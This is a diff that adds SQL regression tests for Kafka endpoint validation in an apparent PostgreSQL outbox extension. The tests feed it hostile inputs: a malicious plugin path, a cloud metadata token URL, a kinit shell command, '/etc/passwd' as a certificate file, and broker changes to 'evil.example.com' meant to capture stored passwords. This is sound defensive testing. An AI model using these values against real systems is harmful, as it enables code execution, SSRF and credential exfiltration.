@@ -34,6 +34,7 @@ SELECT regress.try_detail($$SELECT outbox.create_endpoint('e', 'kafka://user:pw@
 SELECT regress.try_detail($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t?acks=1')$$) AS query;
 SELECT regress.try_detail($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t#x')$$) AS fragment;
 SELECT regress.try_detail($$SELECT outbox.create_endpoint('e', 'kafka://b c:9092/t')$$) AS space_in_host;
+SELECT regress.try_detail(format($$SELECT outbox.create_endpoint('e', 'kafka://%s/t')$$, (SELECT string_agg('b' || g || ':9092', ',') FROM generate_series(1, 33) g))) AS too_many_brokers;
 SELECT regress.try_detail($$SELECT outbox.create_endpoint('e', 'kafka://[zz::1]:9092/t')$$) AS bad_ipv6;
 SELECT regress.try_detail($$SELECT outbox.create_endpoint('e', 'kafka://::1:9092/t')$$) AS ipv6_without_brackets;
 SELECT regress.try_detail($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/a/b')$$) AS slash_in_topic;
@@ -74,9 +75,15 @@ SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', opti
 SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"topic.acks": "0"}}')$$) AS topic_prefixed_acks;
 -- code, commands and files of the database server
 SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"plugin.library.paths": "/tmp/evil.so"}}')$$) AS plugin;
+SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"sasl.oauthbearer.token.endpoint.url": "http://169.254.169.254/token"}}')$$) AS oidc_token_url;
 SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"interceptors": "x"}}')$$) AS interceptors;
 SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"sasl.kerberos.kinit.cmd": "touch /tmp/x"}}')$$) AS kinit_cmd;
 SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"sasl.mechanism": "GSSAPI"}}')$$) AS gssapi;
+-- OAUTHBEARER has no token here (OIDC is refused); librdkafka 2.0.2's unsecured JWT
+-- builder crashes the relay, hence the server, when it refreshes a token (and
+-- echoes the write-only sasl.oauthbearer.config into the log when it fails)
+SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"sasl.mechanism": "OAUTHBEARER"}}')$$) AS oauthbearer;
+SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"enable.sasl.oauthbearer.unsecure.jwt": true}}')$$) AS unsecure_jwt;
 SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"ssl.key.location": "/etc/ssl/private/k.pem"}}')$$) AS key_file;
 SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"ssl.ca.location": "/etc/passwd"}}')$$) AS ca_file;
 SELECT regress.try($$SELECT outbox.create_endpoint('e', 'kafka://b:9092/t', options => '{"kafka": {"ssl.engine.location": "/tmp/e.so"}}')$$) AS engine;
@@ -150,6 +157,14 @@ SELECT regress.try($$SELECT kafka_secrets FROM outbox._endpoints$$) AS admin_sec
 SELECT regress.try($$SELECT outbox._endpoint_options('{}', NULL, 'kafka://b:1/t', NULL)$$) AS admin_private_function;
 SELECT outbox.alter_endpoint('ks', '{"options": {"kafka": {"sasl.password": "by-admin-s3cr3t"}}}');
 SELECT name, kafka_secret_names FROM outbox.endpoints WHERE name = 'ks';
+-- ... but cannot send the ones it cannot read to brokers of its choosing
+-- (with SASL PLAIN the password travels as it is): new brokers need them again
+SELECT regress.try_detail($$SELECT outbox.alter_endpoint('ks', '{"url": "kafka://evil.example.com:9092/t",
+       "options": {"kafka": {"security.protocol": "SASL_PLAINTEXT", "sasl.mechanism": "PLAIN"}}}')$$) AS new_brokers;
+SELECT regress.try_detail($$SELECT outbox.alter_endpoint('ks', '{"url": "kafka://127.0.0.1:9092,evil.example.com:9092/t"}')$$) AS one_more_broker;
+SELECT outbox.alter_endpoint('ks', '{"url": "kafka://127.0.0.1:9092/other.topic"}');
+SELECT outbox.alter_endpoint('ks', '{"url": "kafka://b2.example.com:9092/t", "options": {"kafka": {"sasl.password": "given-again"}}}');
+SELECT url, kafka_secret_names FROM outbox.endpoints WHERE name = 'ks';
 RESET ROLE;
 SELECT kafka_secrets FROM outbox._endpoints WHERE name = 'ks';
 DROP ROLE regress_k_reader, regress_k_admin;
